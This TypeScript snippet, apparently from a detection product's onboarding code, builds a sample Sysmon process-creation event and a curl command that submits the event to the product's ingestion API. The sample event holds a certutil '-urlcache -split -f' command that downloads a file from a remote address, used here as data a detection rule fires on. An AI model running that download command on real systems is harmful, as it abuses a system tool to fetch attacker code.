/** One event as Sysmon reports it (event 1, a process began), on which a rule of the starter pack fires. */
const sampleEvent = {
  Channel: 'Microsoft-Windows-Sysmon/Operational',
  EventID: 1,
  Computer: 'my-first-host',
  Image: 'C:\\Windows\\System32\\certutil.exe',
  CommandLine: 'certutil.exe -urlcache -split -f http://203.0.113.10/tool.txt tool.txt',
};

/** A command to paste into a shell. Single quotes: JSON has none, and the shell leaves all between them alone. */
export function curlCommand(origin: string, key: string): string {
  return [
    `curl -sS ${origin}/v1/events \\`,
    `  -H "Authorization: Bearer ${key}" \\`,
    `  -H 'Content-Type: application/x-ndjson' \\`,
    `  -H 'Vedette-Source: my-first-source' \\`,
    `  --data-raw '${JSON.stringify(sampleEvent)}'`,
  ].join('\n');
}
